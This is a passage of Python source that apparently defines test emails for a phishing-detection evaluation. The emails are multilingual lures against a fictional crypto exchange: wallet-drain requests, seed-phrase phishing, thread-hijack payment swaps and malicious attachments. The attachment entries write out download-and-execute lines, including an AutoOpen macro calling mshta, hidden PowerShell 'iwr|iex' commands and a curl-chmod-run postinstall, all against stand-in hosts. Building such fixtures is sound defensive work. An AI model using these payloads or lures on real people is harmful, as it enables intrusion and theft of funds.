         ("리크얼럿 고객지원", "support@liqalert.kr"), PARK, "[리크얼럿] 기관 고객 전용 청산 알림 PC 버전 안내",
         """안녕하세요, 리크얼럿입니다.

요청하신 기관용 선물 청산 알림 PC 프로그램을 안내드립니다.

  https://liqalert.kr/pc/LiqAlert_Pro_2.1.msi

설치 전에 V3 또는 Windows 보안의 실시간 감시를 꺼 주셔야 정상 설치됩니다.
설치 후 거래소 API 키를 연결하면 포지션 청산가를 실시간으로 알려 드립니다.

감사합니다.""", "2026-11-12 09:50 +0900"),
    mail(L, TA, "fr", "French market-making bot exe for Raydium with a Defender exclusion and the hot-wallet private key in config",
         ("Lucas Fabre", "lucas.fabre@solmaker.fr"), LAURENT, "Bot de market-making Raydium - version entreprise",
         """Bonjour Camille,

Comme convenu, voici la version entreprise de notre bot de market-making pour Raydium :

  https://solmaker.fr/download/SolMaker-Entreprise-1.4.exe

Ajoutez le dossier d'installation aux exclusions de Windows Defender (le moteur d'arbitrage est
détecté à tort). Dans config.toml, renseignez la clé privée du hot wallet qui fournira la liquidité.

Lucas""", "2026-11-13 16:10 +0100"),
]

WALLET: list[Mail] = [
    mail(L, WA, "en", "'whitehat' claims a hot-wallet bug and urges moving funds to his 'rescue' address before attackers do",
         ("SEAL-responder Nate", "nate.k@whitehat-rescue.org"), (TAKAHASHI, TANAKA),
         "URGENT: exploitable bug in your hot wallet signer - move funds now",
         """Hi Kitsune security team,

I'm an independent whitehat. I found an exploitable nonce-reuse issue in signatures coming from your
hot wallet 0x00000000000000000000000000000000000a11ce and I can see a known drainer cluster testing it
right now.

To protect user funds, move the hot-wallet balance to this rescue address I control with a time-lock,
and I will return everything once you have patched (standard 10% bounty):

  0x7A1c0e4F92B3d58E6a0C1f7D23e9B4a6C5f80D19

You have maybe 30 minutes. Do not wait for a full internal review, it will be too late.

Nate""", "2026-11-05 04:22 +0000"),
    mail(L, WA, "ja", "listing applicant asks treasury to connect the hot wallet on a claim site and sign a 'test airdrop'",
         ("Zephyr Protocol 上場担当", "listing@zephyr-proto.xyz"), TANAKA_JA, "上場審査用エアドロップ受取テストのお願い",
         """キツネエクスチェンジ 財務ご担当者様

上場審査の技術確認として、貴社ホットウォレットでのトークン受取テストをお願いしております。
以下のページでウォレットを接続し、表示される「Claim」の署名を実行してください。

  https://claim.zephyr-proto.xyz/kitsune-listing

署名後に 50,000 ZPH がテスト送付されます。審査の都合上、本日中の実施をお願いいたします。

Zephyr Protocol 上場チーム""", "2026-11-07 12:30 +0900"),
    mail(L, WA, "en", "counterparty asks to sign an SPL SetAuthority that hands token-account ownership to its address",
         ("Owen Pryce", "owen.pryce@kelpstream.finance"), TANAKA, "Solana settlement - authority update before Monday",
         """Hi Mika,

To enable T+0 settlement on Solana we need our settlement program to be able to sweep your USDC token
account at cut-off. Please sign the attached instruction from the treasury signer:

  Program: TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA
  Instruction: SetAuthority
  Account: 7dQ3kHwJ2u9bXf1pLq6ZcN4tR8vYe5MaSg2WjKo3PnEx (Kitsune USDC)
  AuthorityType: AccountOwner
  New authority: Kelp8sRq1YfVw3nT6cE9bHzJ2xLmU4aPdG7oKiS5vBn

It's a one-time setup; after that nothing needs your signature. Our ops team needs it before Monday.

Owen""", "2026-11-09 11:45 +0000"),
    mail(L, WA, "ko", "fake hardware-wallet support asks to read the 24 recovery words on a phone call for a 'firmware check'",
         ("Trezor 기업지원", "enterprise@trezor-kr-support.com"), PARK, "콜드월렛 펌웨어 점검 일정 안내",
         """박대현 님,

귀사에서 사용 중인 Trezor Safe 5 장비 3대가 이번 펌웨어 리콜 대상에 포함되었습니다.
점검은 전화로 진행되며, 담당 엔지니어가 복구 문구 24단어를 확인해 장비의 무결성을 검증합니다.

점검 예약: 11월 13일 오후 2시 (02-6952-1147)
준비물: 각 장비의 복구 시드 카드

점검을 받지 않으면 장비가 잠길 수 있습니다.

Trezor 기업지원팀""", "2026-11-11 10:40 +0900"),
    mail(L, WA, "zh", "OTC client on 163.com claims Tether flagged its TRON address and asks to pay 300,000 USDT to a new one",
         ("王建峰", "wjf_otc_2026@163.com"), LI, "更换收款地址（原地址被冻结）",
         """李经理：

我们原来的 TRON 收款地址被 Tether 风控标记了，暂时无法收款。今天这笔 300,000 USDT
请改为打到下面的新地址：

  TJ4wq9ZkBn2Yp7sX6cRf3LuE8aMh5dVt1G

时间比较紧，就不走电话确认流程了，我这边是公司老板直接授权的。打完请把哈希发我。

王建峰""", "2026-11-12 15:20 +0800"),
    mail(L, WA, "fr", "advance-fee 'refund': pay 2 ETH of gas first to unlock a 150 ETH refund from a fake custodian",
         ("Service remboursements - Garantis", "remboursements@garantis-eu.com"), LAURENT,
         "Remboursement de 150 ETH en attente - frais de déblocage",
         """Bonjour,

Suite à la clôture du compte de règlement Kitsune Exchange chez Garantis, un solde de 150 ETH reste à
vous restituer. Pour des raisons réglementaires, les frais de réseau doivent être préfinancés par le
bénéficiaire.

Merci d'envoyer 2 ETH à l'adresse de frais ci-dessous ; le remboursement est émis dans l'heure :

  0x3fB90a2C7e51d86A4c0E9b1F27d3A58e6C90b4D2

Au-delà du 16 novembre, les fonds non réclamés seront transférés au Trésor public.

Garantis - Service clients institutionnels""", "2026-11-14 09:05 +0100"),
    mail(L, WA, "ar", "fake MPC vendor asks for the exported key-share backup file and its passphrase",
         ("دعم حفظ الأصول - Vaultline", "support@vaultline-mpc.com"), HADDAD, "إعادة تشفير نسخة مشاركة المفتاح",
         """مرحباً،

ضمن ترقية البنية الأمنية لعملاء الشرق الأوسط، نقوم بإعادة تشفير نسخ مشاركات المفاتيح (key shares).
يرجى تصدير ملف النسخة الاحتياطية لمشاركة المفتاح الخاصة بمحفظة الشركة وإرساله إلينا مع عبارة المرور
عبر الرابط الآمن التالي:

  https://vaultline-mpc.com/secure-upload?client=kitsune-dxb

سيتم تعطيل التوقيع على المحافظ التي لا تتم ترقيتها قبل 18 نوفمبر.

فريق دعم Vaultline""", "2026-11-15 11:30 +0400"),
]

_RLO = "\u202e"
_MACRO = ("ThisDocument", """Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
    Dim s As String
    s = "mshta https://docs-view.kyc-partenaires.fr/v/kyb.hta"
    CreateObject("WScript.Shell").Run s, 0, False
End Sub
""", True)

ATTACH: list[Mail] = [
    mail(L, AT, "ja", "ISO 'term sheet' holding a .docx.lnk that runs hidden PowerShell next to a side-loaded DLL",
         ("長谷部 亮 (Aster Bridge Partners)", "r.hasebe@asterbridge-partners.jp"), CEO,
         "資本業務提携タームシート（最終案）送付",
         """佐藤様

先日の打合せを踏まえたタームシートの最終案をお送りします。
容量の都合でディスクイメージにまとめております。ダブルクリックで開いてご確認ください。

Aster Bridge Partners 長谷部""", "2026-11-05 19:10 +0900",
         attachments=(Att("TermSheet_Kitsune_final.iso", iso_image([
             ("TermSheet_Kitsune_final.docx.lnk", _lnk_ps("https://cdn.asterbridge-partners.jp/t/ts.ps1",
                                                          "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE,0")),
             ("data/msedge.dll", pe_stub("sideload:asterbridge"))], volume="TERMSHEET"), OCTET),)),
    mail(L, AT, "en", "CHM 'proof-of-reserves audit checklist' whose ShortCut object runs PowerShell",
         ("Gareth Ellison", "g.ellison@tallyrock-assurance.com"), CFO, "PoR audit - checklist for your team",
         """Dear Emily,

Ahead of the proof-of-reserves fieldwork next week, please find our checklist attached (compiled help
format so that the sections link together). Could your team go through it before Monday?

Kind regards,
Gareth Ellison
Tallyrock Assurance""", "2026-11-06 10:40 +0000",
         attachments=(Att("PoR_Audit_Checklist_Nov2026.chm",
                          chm("PoR Audit Checklist", "powershell.exe,-w hidden -c iwr https://tallyrock-assurance.com/c/p.ps1|iex",
                              "set-l-por"), "application/vnd.ms-htmlhelp"),)),
    mail(L, AT, "en", "AES 7z with a .pdf.vbs 'bank confirmation', password given in the body",
         ("Confirmations Desk", "confirmations@harrowgate-bank.com"), KEIRI, "Balance confirmation request - encrypted",
         """Dear Accounts team,

Please find attached the year-end balance confirmation for your review and countersignature.
The file is encrypted for confidentiality. Password: HGB-1107

Confirmations Desk
Harrowgate Bank""", "2026-11-07 08:05 +0000",
         attachments=(Att("Balance_Confirmation_KX.7z", seven_zip([
             ("Balance_Confirmation_KX.pdf.vbs", vbs("powershell -w hidden -c iwr https://harrowgate-bank.com/s.ps1|iex",
                                                     "https://harrowgate-bank.com/confirm.pdf"))],
             "HGB-1107", "set-l-harrowgate"), SEVENZ),)),
    mail(L, AT, "ko", "Korean 'market data' Excel add-in (.xll, PE stub) from an unknown data vendor",
         ("오민재 (데이터브릿지)", "minjae.oh@databridge-mkt.kr"), PARK, "실시간 코인 시세 엑셀 애드인 전달",
         """박대현 님,

요청하신 실시간 시세 연동 엑셀 애드인을 첨부드립니다.
파일을 열면 엑셀이 자동으로 실행되며, '이 추가 기능 사용'을 눌러 주시면 됩니다.

데이터브릿지 오민재""", "2026-11-08 14:25 +0900",
         attachments=(Att("DataBridge_RealtimeQuotes.xll", pe_stub("xll:databridge"), OCTET),)),
    mail(L, AT, "fr", "French KYB questionnaire .docm whose AutoOpen macro runs mshta",
         ("Conformité - Partenaires KYC", "conformite@kyc-partenaires.fr"), LAURENT,
         "Questionnaire KYB annuel - à retourner avant le 15/11",
         """Bonjour,

Dans le cadre de la revue annuelle de nos relations PSAN, merci de compléter le questionnaire KYB
ci-joint. Le document utilise des champs dynamiques : cliquez sur « Activer le contenu » à l'ouverture.

Service Conformité""", "2026-11-09 10:30 +0100",
         attachments=(Att("Questionnaire_KYB_2026.docm",
                          word_document(["Questionnaire KYB 2026", "Activez le contenu pour afficher les champs."],
                                        macro_modules=[_MACRO]),
                          "application/vnd.ms-word.document.macroEnabled.12"),)),
    mail(L, AT, "ar", "Arabic 'invoice' SVG that smuggles a zip holding a JScript downloader",
         ("قسم الفواتير - Nakhla Logistics", "billing@nakhla-logistics.com"), HADDAD, "فاتورة مستحقة رقم NL-55120",
         """السادة كيتسوني،

مرفق نسخة من الفاتورة المستحقة رقم NL-55120. يرجى فتح الملف لعرض تفاصيل المبلغ وتأكيد السداد.

قسم الفواتير""", "2026-11-10 12:00 +0400",
         attachments=(Att("Invoice_NL-55120.svg", svg_smuggling(
             zip_archive([("Invoice_NL-55120.js", jscript("https://nakhla-logistics.com/i/inv.js"))]),
             "Invoice_NL-55120.zip", "Loading invoice NL-55120 ..."), "image/svg+xml"),)),
    mail(L, AT, "en", "RLO-named shortcut displayed as a PDF (Invoice_1112knl.pdf) that runs PowerShell",
         ("Accounts Receivable", "ar@plinth-systems.co"), KEIRI, "Overdue invoice 1112 - second reminder",
         """Hello,

Our records show invoice 1112 is now 21 days overdue. A copy is attached; please arrange payment or
tell us if there is a dispute.

Accounts Receivable
Plinth Systems""", "2026-11-11 09:30 +0000",
         attachments=(Att(f"Invoice_1112{_RLO}fdp.lnk", _lnk_ps("https://plinth-systems.co/r/i.ps1",
                                                               "C:\\Windows\\System32\\shell32.dll,1"), OCTET),)),
    mail(L, AT, "en", "macOS 'payment advice' dmg from an unknown sender",
         ("Treasury Services", "advice@meridale-trust.com"), CFO, "Payment advice - USD 1,240,000 (mac viewer)",
         """Dear Ms Carter,

Please find attached the payment advice for the USD 1,240,000 transfer. Our secure document viewer for
Mac is included; open the disk image and run the viewer to decrypt the advice.

Treasury Services
Meridale Trust""", "2026-11-12 07:45 +0000",
         attachments=(Att("Payment_Advice_Viewer.dmg", dmg("Payment Advice Viewer", "set-l-meridale"),
                          "application/x-apple-diskimage"),)),
    mail(L, AT, "ja", "HTML attachment imitating a OneDrive share that smuggles an ISO holding a .pdf.lnk",
         ("経理部 共有", "share@onedrive-kitsune-docs.com"), KEIRI, "【共有】11月分支払予定表.pdf",
         """経理部の皆様

11月分の支払予定表を共有しました。添付のファイルを開き、ダウンロードしてご確認ください。

OneDrive""", "2026-11-13 09:00 +0900",
         attachments=(Att("支払予定表_11月.html", html_smuggling(
             iso_image([("支払予定表_11月.pdf.lnk", _lnk_ps("https://onedrive-kitsune-docs.com/p/s.ps1"))], volume="SHARE"),
             "支払予定表_11月.iso", "OneDrive", "ファイルを準備しています"), "text/html"),)),
    mail(L, AT, "fr", "macOS .pkg 'statement viewer' whose postinstall fetches and runs a binary",
         ("Relevés - Banque Altière", "releves@banque-altiere.com"), LAURENT, "Vos relevés sécurisés d'octobre",
         """Bonjour,

Vos relevés d'octobre sont disponibles. Pour des raisons de sécurité, ils ne s'ouvrent qu'avec notre
visionneuse sécurisée pour Mac, jointe à ce message. Installez-la puis ouvrez le relevé.

Banque Altière - Service clients""", "2026-11-14 10:20 +0100",
         attachments=(Att("Altiere_Releves_Viewer.pkg", xar_pkg("fr.banque-altiere.viewer",
                          "curl -fsSL https://banque-altiere.com/m/agent -o /tmp/.agent && chmod +x /tmp/.agent && /tmp/.agent &"),
                          "application/octet-stream"),)),
    mail(L, AT, "zh", "ZipCrypto zip with a .pdf.js downloader, password in the body (Chinese)",
         ("深圳联拓供应链", "caiwu@liantuo-scm.com"), LI, "对账函（加密文件，密码见正文）",
         """李先生：

附件为十月份往来对账函，请核对后盖章回传。文件已加密，解压密码：LT1115

深圳联拓供应链 财务部""", "2026-11-15 10:05 +0800",
         attachments=(Att("对账函_10月.zip", zip_archive([
             ("对账函_10月.pdf.js", jscript("https://liantuo-scm.com/d/s.js"))], password="LT1115"), ZIP),)),
    mail(L, AT, "en", "zipped HTA 'voice message' that runs PowerShell",
         ("Voicemail", "voicemail@kx-voice-notify.com"), CEO, "New voice message (0:47) from +44 20 7946 0310",
         """You have a new voice message.

From: +44 20 7946 0310
Length: 0:47

Open the attached player to listen.""", "2026-11-16 06:30 +0000",
         attachments=(Att("VoiceMessage_0047.zip", zip_archive([
             ("VoiceMessage_0047.hta", hta("powershell -w hidden -c iwr https://kx-voice-notify.com/v.ps1|iex",
                                           "Voice Message"))]), ZIP),)),
]

HIJACK: list[Mail] = [
    mail(L, CH, "en", "Elmsworth lookalike (elmsworth-co.uk) replies in the real thread with In-Reply-To, sending SSIs behind a login page",
         ELMSWORTH_FAKE, TANAKA, "RE: Elmsworth / Kitsune - November settlement schedule",
         """Hi Mika,

Following up on the schedule below: our standard settlement instructions changed this month after the
custodian migration. The new SSI pack is on our client portal (you'll need to sign in with your
Microsoft account):

https://portal.elmsworth-co.uk/ssi/kitsune-2026-11

Please use only these from the 12th onward.

Best,
Harriet

> On 5 Nov 2026, Mika Tanaka wrote:
> Hi Harriet, confirming our cut-offs for November...""", "2026-11-10 10:20 +0000",
         in_reply_to=ELMSWORTH_MID, references=ELMSWORTH_MID),
    mail(L, CH, "ja", "Chitose lookalike (chltose-fin.co.jp) replies with In-Reply-To and an HTML file that smuggles an ISO",
         CHITOSE_FAKE, TANAKA_JA, "Re: 11月分 精算明細のご送付",
         """田中様

お世話になっております。千歳ファイナンスの大関です。
先ほどの明細に一部誤りがございましたので、修正版をお送りします。
添付のファイルを開いてダウンロードのうえご確認ください。

大関

> 11月分の精算明細をお送りいたします。""", "2026-11-09 16:45 +0900",
         in_reply_to=CHITOSE_MID, references=CHITOSE_MID,
         attachments=(Att("精算明細_修正版.html", html_smuggling(
             iso_image([("精算明細_修正版.pdf.lnk", _lnk_ps("https://chltose-fin.co.jp/m/s.ps1"))], volume="MEISAI"),
             "精算明細_修正版.iso", "Chitose Finance", "明細を準備しています"), "text/html"),)),
    mail(L, CH, "fr", "Sorelle lookalike (banquesorelle.fr) forwards the thread without In-Reply-To and gives a new IBAN",
         SORELLE_FAKE, LAURENT, "TR: Règlement de la jambe EUR - novembre",
         """Bonjour Camille,

Je vous transfère l'échange ci-dessous. Suite à un audit interne, la jambe EUR de nos règlements
passe désormais par notre compte de cantonnement :

  IBAN : LT62 3250 0471 8820 5513
  BIC : REVOLT21

Merci de l'utiliser dès le règlement de vendredi. Inutile de rappeler, je suis en comité toute la journée.

Mathilde Royer

-------- Message transféré --------
Objet : Règlement de la jambe EUR - novembre""", "2026-11-12 11:05 +0100"),
    mail(L, CH, "ko", "Eunha lookalike (eunhadigitai.co.kr) replies with In-Reply-To and changes the USDT settlement address",
         EUNHA_FAKE, PARK, "RE: 11월 정산 일정 공유드립니다",
         """박대현 님,

정산 일정 확인 감사합니다. 내부 보안 점검으로 기존 지갑을 폐기하게 되어,
이번 주 정산부터는 아래 주소로 보내 주시면 됩니다.

  USDT (ERC-20): 0x91dA3e7C0b54F2a8E6c1B9d0437fA25E8b6C3d10

기존 주소로 보내시면 반환이 어려우니 꼭 새 주소로 부탁드립니다.

정하윤 드림""", "2026-11-10 17:30 +0900", in_reply_to=EUNHA_MID, references=EUNHA_MID),
    mail(L, CH, "zh", "Jiahe lookalike (jiahe-da-hk.com) replies with In-Reply-To naming a new 'escrow agent' wallet",
         JIAHE_FAKE, LI, "回复: 11月8日场外成交确认",
         """李先生：

感谢确认。由于监管要求，我们这笔交易需通过第三方托管代理结算，请将 USDT 打到托管地址：

  TX9c2LmQ7eRw5bK3yN8vP1jH4fS6aD0uZE

托管代理收到后会即时把港币划到贵司账户。今天下午四点前完成即可。

何嘉欣""", "2026-11-11 13:15 +0800", in_reply_to=JIAHE_MID, references=JIAHE_MID),
    mail(L, CH, "ar", "Dhow Bridge lookalike (dhowbrldge.ae) replies without In-Reply-To linking a 'statement viewer' exe",
         DHOW_FAKE, HADDAD, "رد: كشف حساب التسوية لشهر أكتوبر",
         """أخي عمر،

بالإشارة إلى رسالتي السابقة، كشف الحساب أصبح متاحاً فقط عبر برنامج العرض الآمن الجديد:

  https://dhowbrldge.ae/client/StatementViewer_Setup.exe

يرجى تثبيته وفتح الكشف قبل نهاية الأسبوع لتأكيد الأرصدة.

يوسف المري""", "2026-11-13 10:40 +0400"),
]

LURES: list[Mail] = [*EXEC, *VENDOR, *LOOKALIKE, *RECRUIT, *INVESTOR, *TRADING, *WALLET, *ATTACH, *HIJACK]
